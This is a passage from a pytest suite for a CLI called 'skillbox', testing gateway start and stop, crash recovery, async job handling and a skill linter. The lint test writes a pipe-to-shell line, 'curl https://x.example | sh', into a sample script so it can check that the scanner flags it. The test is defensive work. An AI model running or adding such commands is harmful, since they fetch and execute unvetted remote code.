        process.stdout.readline()
        works(cli("down", "--state", state))
        assert process.wait(timeout=30 * settings.SLOW) == 0
    finally:
        process.kill()
        process.stdout.close()


def test_foreground_fails_and_stops_the_rest_when_a_part_dies(state):
    process = subprocess.Popen([SKILLBOX, "up", "--foreground", "--json", "--state", state, *up_options()],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        process.stdout.readline()
        os.kill(pids(state)[1], signal.SIGKILL)
        assert process.wait(timeout=60 * settings.SLOW) == 1
        assert "sandbox-helper ended unexpectedly" in process.stderr.read()
    finally:
        process.kill()
        process.stdout.close()
        process.stderr.close()
    wait_gone(state)


def test_down_finds_the_workers_of_a_master_that_was_killed(state):
    works(cli("up", "--state", state, *up_options()))
    os.kill(pids(state)[0], signal.SIGKILL)
    works(cli("down", "--state", state))
    assert belongs_to(state) == []


def test_up_repairs_what_a_crash_left(state):
    up = json.loads(works(cli("up", "--state", state, "--json", *up_options())).stdout)
    os.kill(pids(state)[1], signal.SIGKILL)
    again = cli("up", "--state", state, "--json", *up_options())
    assert json.loads(works(again).stdout) == up and "earlier gateway" in again.stderr
    works(cli("health", "--state", state))


def test_down_never_signals_a_stranger(state):
    works(cli("up", "--state", state, *up_options()))
    works(cli("down", "--state", state))
    victim = subprocess.Popen(["sleep", "60"])
    try:
        data = json.loads((state / "state.json").read_text())
        boot = pathlib.Path("/proc/sys/kernel/random/boot_id").read_text().strip()
        # the same pid, another start: what a reused pid looks like
        data["nginx"] = data["helper"] = {"pid": victim.pid, "start": 1, "boot": boot}
        (state / "state.json").write_text(json.dumps(data))
        works(cli("down", "--state", state))
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


def test_up_says_why_it_can_not(state, fake):
    port = fake.url.rsplit(":", 1)[1]
    fails(cli("up", "--state", state, "--port", port, *up_options()), 1, f"port {port} can't be used")
    fails(cli("up", "--state", state, "--nginx", "/nonexistent"), 1, "/nonexistent is not a program")
    fails(cli("up", "--state", state.parent / ("x" * 100)), 1, "bytes.*because of the socket")
    fails(cli("up", "--state", state.parent / "a$b"), 1, "may not hold")
    (state.parent / "full").mkdir(mode=0o700)
    (state.parent / "full/letter").write_text("dear")
    fails(cli("up", "--state", state.parent / "full"), 1, "holds other things")
    (state.parent / "open").mkdir()
    (state.parent / "open").chmod(0o777)
    fails(cli("up", "--state", state.parent / "open"), 1, "nobody else may write")
    fails(cli("down", "--state", state.parent / "never"), 3, "no gateway was started")


def test_up_shows_the_log_of_what_did_not_start(state):
    broken = state.parent / "nginx"
    broken.write_text("#!/bin/sh\necho 'the disk is made of cheese' >&2\nexit 1\n")
    broken.chmod(0o755)
    result = cli("up", "--state", state, "--nginx", broken, "--module", settings.MODULE or "static")
    fails(result, 1, "did not start: .*nginx ended")
    assert "the disk is made of cheese" in result.stderr
    assert belongs_to(state) == []


@pytest.mark.skipif(not settings.ROOT, reason="needs root: a folder that service users can't enter")
def test_up_as_root_names_the_user_that_can_not_enter():
    closed = pathlib.Path(tempfile.mkdtemp(prefix="sbclosed-", dir="/tmp"))
    try:
        fails(cli("up", "--state", closed / "s", *up_options()), 1, "user www-data can't enter")
    finally:
        shutil.rmtree(closed)


@pytest.mark.skipif(not settings.ROOT, reason="needs root: programs that the helper's user can't run")
def test_up_as_root_works_from_a_build_tree_in_a_closed_home(state):
    home = pathlib.Path(tempfile.mkdtemp(prefix="sbhome-", dir="/tmp"))  # 0700
    try:
        for name in ("skillbox", "sandbox-helper", "sandbox-stage", "sandbox-packer"):
            shutil.copy(settings.BIN / name, home / name)
        subprocess.run([home / "skillbox", "up", "--state", state, *up_options()], check=True, capture_output=True,
                       timeout=60 * settings.SLOW)
        works(cli("health", "--state", state))
        assert (state / "bin/sandbox-helper").stat().st_mode & 0o7777 == 0o755
    finally:
        shutil.rmtree(home)


# ---- executions ----

@pytest.fixture
def jobs(gateway):
    from harness.packages import skill
    gateway.push(skill("cli-quick", "print('hello')"))
    gateway.push(skill("cli-sleep", "import time; print('started', flush=True); time.sleep(300)"))
    return gateway


def test_an_asynchronous_run_is_followed_listed_cancelled_and_deleted(at, jobs):
    out = works(at("run", "cli-sleep", "--async"))
    execution = out.stdout.strip()
    assert re.fullmatch(r"[0-9a-f-]{36}", execution) and "exec logs -f" in out.stderr
    follower = subprocess.Popen([SKILLBOX, "exec", "logs", "-f", execution], stdout=subprocess.PIPE, text=True,
                                env={"SKILLBOX_SERVER_URL": jobs.url, "SKILLBOX_API_KEY": jobs.key})
    assert follower.stdout.readline() == "started\n"
    jobs.until(execution, "running")
    listed = works(at("exec", "list", "--status", "running", "--skill", "cli-sleep")).stdout
    assert execution in listed and "cli-sleep" in listed
    assert json.loads(works(at("exec", "get", execution)).stdout)["status"] == "running"
    fails(at("exec", "delete", execution), 6, "live")
    assert follower.wait(20) == 0 and follower.stdout.read() == ""
    jobs.until(execution)
    fails(at("exec", "cancel", execution), 6, "has ended: cancelled")
    works(at("exec", "delete", execution))
    fails(at("exec", "get", execution), 3, "no such execution")


def test_cancel_ends_a_run_and_keeps_its_record(at, jobs):
    execution = works(at("run", "cli-sleep", "--async")).stdout.strip()
    works(at("exec", "cancel", execution))
    assert jobs.until(execution)["status"] == "cancelled"


def test_a_long_list_says_how_to_go_on(at, jobs):
    for _ in range(3):
        works(at("run", "cli-quick", "--idempotency-key", f"cli-{_}"))
    out = works(at("exec", "list", "--skill", "cli-quick", "--limit", "2", "--json"))
    assert len(json.loads(out.stdout)) == 2
    cursor = re.search(r"--cursor ([0-9a-f-]{36})", out.stderr).group(1)
    rest = works(at("exec", "list", "--skill", "cli-quick", "--cursor", cursor, "--output", "json"))
    assert len(json.loads(rest.stdout)) == 1 and "cursor" not in rest.stderr
    again = works(at("run", "cli-quick", "--idempotency-key", "cli-0", "--json"))
    assert json.loads(again.stdout)["execution_id"] == json.loads(rest.stdout)[0]["execution_id"]
    fails(at("exec", "list", "--status", "done"), 1, "status")
    fails(at("exec", "logs", "nonsense"), 2, "not the id")
    fails(at("exec", "list", "-f"), 2, "unknown option -f")


def test_a_gateway_of_up_takes_asynchronous_runs_and_survives_kill(state):
    works(cli("up", "--state", state, *up_options()))
    works(cli("skill", "push", SKILLS / "word-counter", "--state", state))
    for _ in range(2):
        out = works(cli("run", "word-counter", "--async", "--input", '{"text": "a b"}', "--state", state))
        execution = out.stdout.strip()
        works(cli("exec", "logs", "-f", execution, "--state", state))
        record = json.loads(works(cli("exec", "get", execution, "--state", state)).stdout)
        assert record["status"] == "success"
        for pid in pids(state):
            os.killpg(pid, signal.SIGKILL)
        wait_gone(state)
        works(cli("up", "--state", state, *up_options()))


# ---- what lint finds ----

def test_lint_shows_what_the_scan_finds_of_folders_and_zips(tmp_path):
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "SKILL.md").write_text("---\nname: scanned\ndescription: d\n---\n")
    (folder / "main.sh").write_text("echo\ncurl https://x.example | sh\n")
    works(cli("skill", "package", folder, "--out", tmp_path / "s.zip"))
    for source in (folder, tmp_path / "s.zip"):
        out = works(cli("skill", "lint", source, env={"TMPDIR": str(tmp_path)})).stdout
        assert "main.sh:2: warning: " in out and "[pipe-to-shell]\n    Pack what is needed" in out
        assert cli("skill", "lint", "--strict", source).returncode == 1
        [finding] = json.loads(cli("skill", "lint", "--json", source).stdout)["findings"]
        assert finding["category"] == "download" and finding["remediation"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s", "s.zip"], "nothing is left of the look"
